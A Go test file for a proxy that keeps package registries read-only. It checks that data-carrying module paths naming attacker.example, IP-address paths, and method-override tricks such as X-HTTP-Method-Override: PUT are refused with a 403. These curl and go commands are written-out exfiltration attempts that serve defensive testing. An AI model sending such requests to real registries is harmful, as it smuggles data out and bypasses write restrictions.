package proxy

import (
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestRegistryWaysOut sends, with curl through the proxy, each request that
// would carry data out through a registry although its method reads: a Go
// module proxy path naming a host of the command's choosing (the proxy
// would fetch it from there), and method overrides that turn a read into a
// publish at a server that honours them. Each is refused before the
// registry sees it; with its check taken away it reaches the registry.
func TestRegistryWaysOut(t *testing.T) {
	t.Parallel()
	const data = "mzxw6ytboi3dcmrtgq2dmnzyhe4dqmjsgm2a4ztbmvsgk3lpnzxw64q"
	reg := "https://" + registryHost
	cases := []struct {
		name  string
		guard guard
		args  []string
	}{
		{"module path names a host of the command's choosing, data in an element", guardRegistryShape,
			[]string{reg + "/attacker.example/" + data + "/@v/list"}},
		{"data in the host's labels", guardRegistryShape,
			[]string{reg + "/" + data[:40] + ".attacker.example/m/@latest"}},
		{"module path is an address", guardRegistryShape,
			[]string{reg + "/203.0.113.9/m/@v/list"}},
		{"module path with a port", guardRegistryShape,
			[]string{reg + "/attacker.example:8443/m/@v/v1.0.0.info"}},
		{"percent-encoded slash", guardRegistryShape,
			[]string{reg + "/attacker.example%2Fm/@v/list"}},
		{"data in the version", guardRegistryShape,
			[]string{reg + "/github.com/a/b/@v/" + strings.Repeat("x.", 60) + ".info"}},
		{"checksum database lookup of a made-up module", guardRegistryShape,
			[]string{reg + "/lookup/attacker.example/" + data + "@v1.0.0"}},
		{"same through a proxy's /sumdb/", guardRegistryShape,
			[]string{reg + "/sumdb/sum.example/lookup/attacker.example/" + data + "@v1.0.0"}},
		{"GET with X-HTTP-Method-Override: PUT", guardMethodOverride,
			[]string{"-H", "X-HTTP-Method-Override: PUT", reg + "/left-pad"}},
		{"read-only POST with X-HTTP-Method: PUT", guardMethodOverride,
			[]string{"-H", "X-HTTP-Method: PUT", "-H", "Content-Type: application/json", "-d", "{}", reg + "/-/audit/quick"}},
		{"read-only POST with X-Method-Override: DELETE", guardMethodOverride,
			[]string{"-H", "X-Method-Override: DELETE", "-H", "Content-Type: application/json", "-d", "{}", reg + "/-/audit/quick"}},
		{"_method in the query", guardMethodOverride,
			[]string{reg + "/left-pad?_method=PUT"}},
		{"_method percent-encoded in the query", guardMethodOverride,
			[]string{reg + "/left-pad?%5Fmethod=PUT"}},
		{"_method in a form body to a read-only endpoint", guardMethodOverride,
			[]string{"-d", "_method=PUT&name=left-pad", reg + "/-/audit/quick"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			for _, guardOn := range []bool{false, true} {
				w := newWorld(t)
				if !guardOn {
					w.off = tc.guard
				}
				w.start(t)
				out, _ := runTool(t, w, w.dir, "curl", append([]string{"-sS", "-w", "\n%{http_code}"}, tc.args...)...)
				reached := len(w.rec.all()) > 0
				if !guardOn {
					if !reached {
						t.Fatalf("with the check taken away the request should reach the registry; curl got:\n%s", out)
					}
					continue
				}
				if reached {
					t.Fatalf("the registry received %s %s", w.rec.all()[0].Method, w.rec.all()[0].URI)
				}
				if !strings.HasSuffix(out, "\n403") || !strings.Contains(out, "registries are read-only") {
					t.Fatalf("want a 403 saying why; curl got:\n%s", out)
				}
			}
		})
	}
}

// TestGoThroughRegistry: the go command itself, pointed at the registry as
// its module proxy, still asks for a real module, and is stopped when it is
// made to ask for a module path that carries data to a host of the
// command's choosing.
func TestGoThroughRegistry(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.start(t)
	gocache := filepath.Join(w.dir, "gopath")
	goenv := func(args ...string) (string, error) {
		return runToolEnv(t, w, []string{
			"GOPROXY=https://" + registryHost, "GOSUMDB=off", "GOPATH=" + gocache, "GOMODCACHE=" + filepath.Join(gocache, "mod"),
			"GOCACHE=" + filepath.Join(w.dir, "gocache"), "GOFLAGS=-mod=mod", "GO111MODULE=on", "GOTOOLCHAIN=local", "GOENV=off",
		}, "go", args...)
	}
	if out, err := goenv("list", "-m", "-versions", "example.org/x/text"); err != nil && !strings.Contains(out, "example.org/x/text") {
		t.Logf("go list: %v\n%s", err, out)
	}
	if !seenPath(w, "/example.org/x/text/@v/list") {
		t.Fatalf("the registry never received the go command's request for a real module: %+v", w.rec.all())
	}
	bad := "attacker.example/mzxw6ytboi3dcmrtgq2dmnzyhe4dqmjsgm2a4ztbmvsgk3lpnzxw64q"
	out, err := goenv("list", "-m", "-versions", bad)
	if err == nil {
		t.Fatalf("go list of a data-carrying module path passed:\n%s", out)
	}
	if !strings.Contains(out, "403") {
		t.Errorf("go did not meet a 403:\n%s", out)
	}
	for _, s := range w.rec.all() {
		if strings.Contains(s.URI, "attacker.example") {
			t.Fatalf("the registry received %s", s.URI)
		}
	}
}

func seenPath(w *world, path string) bool {
	for _, s := range w.rec.all() {
		if s.URI == path {
			return true
		}
	}
	return false
}

func runToolEnv(t *testing.T, w *world, extra []string, name string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(need(t, name), args...)
	cmd.Env = append(w.env(), extra...)
	cmd.Dir = w.dir
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestModulePathShapes(t *testing.T) {
	t.Parallel()
	for path, ok := range map[string]bool{
		"/example.org/x/text/@v/list":                                                 true,
		"/example.org/x/text/@v/v0.14.0.info":                                         true,
		"/example.org/x/text/@v/v0.14.0.mod":                                          true,
		"/example.org/x/text/@v/v0.14.0.zip":                                          true,
		"/github.com/!azure/azure-sdk-for-go/@v/list":                                 true,
		"/github.com/!burnt!sushi/toml/@latest":                                       true,
		"/gopkg.in/yaml.v3/@v/v3.0.1.mod":                                             true,
		"/github.com/a/b/@v/v0.0.0-20191109021931-daa7c04131f5.info":                  true,
		"/github.com/a/b/@v/master.info":                                              true,
		"/github.com/a/b/@v/daa7c04131f5daa7c04131f5daa7c04131f5daa7.info":            true,
		"/github.com/a/b/v2/@v/v2.0.0+incompatible.info":                              true,
		"/lookup/example.org/x/text@v0.14.0":                                          true,
		"/sumdb/sum.example/supported":                                                true,
		"/sumdb/sum.example/lookup/example.org/x/text@v0.14.0":                        true,
		"/sumdb/sum.example/tile/8/0/x123/456":                                        true,
		"/tile/8/1/000.p/12":                                                          true,
		"/latest":                                                                     true,
		"/left-pad":                                                                   true,
		"/@scope%2fname":                                                              true,
		"/simple/requests/":                                                           true,
		"/attacker.example/mzxw6ytboi3dcmrtgq2dmnzyhe4dqmjsgm2a4ztbmvsg/@v/list":      false,
		"/203.0.113.9/m/@v/list":                                                      false,
		"/localhost/m/@v/list":                                                        false,
		"/Attacker.example/m/@v/list":                                                 false,
		"/attacker.example/m/@v/v1.0.0.txt":                                           false,
		"/attacker.example/m/@v/v1%2e0.info":                                          false,
		"/attacker.example/../m/@v/list":                                              false,
		"/-attacker.example/m/@v/list":                                                false,
		"/lookup/attacker.example/m":                                                  false,
		"/sumdb/" + strings.Repeat("a", 40) + ".example/lookup/golang.org/x/a@v1.0.0": false,
	} {
		if got := goPathRefusal(path) == ""; got != ok {
			t.Errorf("goPathRefusal(%q) = %q; want passed=%v", path, goPathRefusal(path), ok)
		}
	}
}

func FuzzGoPathRefusal(f *testing.F) {
	f.Add("/example.org/x/text/@v/list")
	f.Add("/lookup/example.org/x/text@v0.14.0")
	f.Add("/sumdb/sum.example/lookup/a.b/c@v1")
	f.Add("/a/@v/.info")
	f.Fuzz(func(t *testing.T, path string) {
		if goPathRefusal(path) != "" {
			return
		}
		// What passes holds only the characters of module paths and URLs' path.
		for _, c := range path {
			if c > 0x7e || c < 0x21 || c == '%' || c == '?' || c == '#' {
				if strings.Contains(path, "/@v/") || strings.HasSuffix(path, "/@latest") || strings.HasPrefix(path, "/lookup/") {
					t.Fatalf("%q passed with %q in it", path, c)
				}
			}
		}
	})
}
